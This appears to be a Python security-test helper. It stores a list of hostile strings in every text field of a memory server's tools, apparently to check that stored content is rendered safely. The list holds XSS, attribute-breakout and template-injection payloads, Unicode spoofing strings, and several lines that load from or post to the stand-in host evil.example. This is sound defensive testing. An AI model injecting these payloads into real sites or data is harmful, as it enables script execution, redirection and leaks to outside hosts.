"""Texts that are hostile to whoever shows them, and a way to store one in every field that a dialect stores."""

import json
import re
from collections.abc import Mapping
from typing import Any

from tests.security.authenticated_server import House
from tests.support.http_console_live import call_as

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="position:fixed;inset:0',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[link](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=key></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<!-- ",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<template><script>alert(1)</script></template>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202etxt.exe\u202c hidden \u2066inside\u2069",
    "zero\u200bwidth\u200d\ufeff and tags \U000e0041\U000e0042",
    "line\u2028separator\u2029paragraph\x0b\x0c\x07",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "x" * 5000 + "<b>" * 200,
)
GRAPH = {"CODE_MEMORY_ENABLE_GRAPH": "1"}  # the setting without which `sessions` stores no entities


def store_everywhere(server: House, text: str) -> int:
    """One text in every field of every dialect that takes a text; the number of calls that stored something.

    Refused texts, such as paths with forbidden signs, are not stored.
    """
    return _Storing(server, text).run()


class _Storing:
    def __init__(self, server: House, text: str) -> None:
        self._server = server
        self._text, self._short, self._words = text, text[:90], [text[:60]]
        self._stored = 0

    def run(self) -> int:
        self._store_paths()
        self._store_scopes()
        self._store_brain()
        self._store_notes()
        self._store_sessions()
        call_as(self._server, self._short, "add_memory", {"path": f"by/{abs(hash(self._text))}", "content": "x"})
        return self._stored

    def _call(self, tool: str, **arguments: Any) -> str:
        """The ids in the answer of a tool, as one text; empty where the call was refused."""
        answer = self._server.tool(tool, arguments)
        assert answer.status in {200, 400, 403, 404, 409}, (tool, answer)
        self._stored += answer.status == 200
        return answer.body.decode() if answer.status == 200 else ""

    def _made(self, pattern: str, tool: str, **arguments: Any) -> str:
        """Return the id of the row that a tool has made."""
        found = re.findall(pattern, self._call(tool, **arguments))
        return str(found[0]) if found else "none"

    def _store_paths(self) -> None:
        self._call("add_memory", path=f"hostile/{self._short}", content=self._text)
        self._call("add_memory", path=f"hostile/{abs(hash(self._text))}", content=self._text)
        self._call("replace_memory", path=f"hostile/{abs(hash(self._text))}", content=f"{self._text} again")

    def _store_scopes(self) -> None:
        text, short, more = self._text, self._short, {"anything": self._text}
        own = r'"id":\s*"([^"]+)"'
        org = self._made(own, "memory_org", action="create", name=short, metadata=more)
        about: Mapping[str, Any] = {"name": short, "description": text, "rootPath": short, "metadata": more}
        project = self._made(own, "memory_project", action="create", orgId=org, **about)
        self._call("memory_project", action="update", id=project, **about)
        session = {"projectId": project, "name": short, "purpose": text, "agentId": short, "metadata": more}
        self._call("memory_session", action="start", **session)
        entry: dict[str, Any] = {"action": "add", "scopeType": "global", "category": short, "createdBy": short}
        made = {
            "tool": (entry | {"name": short, "description": text, "parameters": more, "examples": [text]})
            | {"constraints": text},
            "guideline": entry | {"name": short, "content": text, "rationale": text, "examples": {"bad": [text]}},
            "knowledge": entry | {"title": short, "content": text, "source": text},
        }
        ids = {kind: self._made(own, f"memory_{kind}", **given) for kind, given in made.items()}
        changed = {"tool": "description", "guideline": "content", "knowledge": "content"}
        for kind, field in changed.items():
            note = {"changeReason": text, "updatedBy": short, field: f"{text} changed"}
            self._call(f"memory_{kind}", action="update", id=ids[kind], **note)
        self._call("memory_guideline", action="update", id=ids["guideline"], category="another")
        self._call("memory_tag", action="create", name=short, category=short, description=text)
        self._call("memory_tag", action="attach", entryType="tool", entryId=ids["tool"], tagName=short)
        ends = {"sourceType": "tool", "sourceId": ids["tool"], "targetType": "guideline", "targetId": ids["guideline"]}
        self._call("memory_relation", action="create", **ends, relationType="related_to", createdBy=short)
        lock = {"file_path": f"/{short}", "agent_id": short}
        self._call("memory_file_lock", action="checkout", **lock, metadata=more)
        self._call("memory_file_lock", action="force_unlock", **lock, reason=text)
        self._call("memory_file_lock", action="checkout", **lock, metadata=more)

    def _store_brain(self) -> None:
        text, short = self._text, self._short
        rest = {"db": "core", "tags": self._words}
        memory = {"content": text, "category": "fact", "subcategory": short, "project_id": short}
        one = self._made(r"mem_[\w-]{21}", "save_memory", **rest, **memory, metadata={"anything": text})
        self._call("update_memory", db="core", id=one, category=short, status=short)
        other = self._made(r"mem_[\w-]{21}", "save_memory", **rest, content=f"{text} 2", category="fact")
        self._call("supersede_memory", db="core", old_id=other, new_content=f"{text} 3", reason=text)
        self._call("handle_correction", **rest, correct_content=f"{text} 4", wrong_content=text, category=short)
        about = {"subtype": short, "description": text, "metadata": {"anything": text}}
        entity = self._made(r"ent_[\w-]{21}", "create_entity", **rest, name=short, type="person", **about)
        self._call("update_entity", db="core", id=entity, status=short)
        ends = {"source_type": "memory", "source_id": one, "target_type": "entity", "target_id": entity}
        self._call("create_link", db="core", **ends, relationship=short, metadata={"anything": text})
        note = {"summary": text, "key_points": [text], "category": short, "project_id": short}
        self._call("save_note", **rest, title=short, content=text, note_type="note", **note)
        page = {"url": short, "description": text, "notes": text, "key_takeaways": [text], "category": short}
        self._call("save_resource", **rest, title=short, **page, project_id=short)
        self._call("set_config", key=short, value=text, description=text)
        self._call("search_memories", db="core", query=short)

    def _store_notes(self) -> None:
        note = {"title": self._short, "memoryType": "context", "tags": self._words}
        self._call("memory_remember", content=self._text, **note)

    def _store_sessions(self) -> None:
        text, short = self._text, self._short
        more = {"summary": text, "tags": short, "metadata_json": json.dumps({"anything": text})}
        self._call("remember", content=f"{text} in `{short}`", session_id=short, kind=short, **more)
        observed = json.dumps([text])
        self._call("upsert_entity", name=short, entity_type=short, observations_json=observed)
        self._call("add_relation", source=short, target=f"{short} 2", relation_type=short)
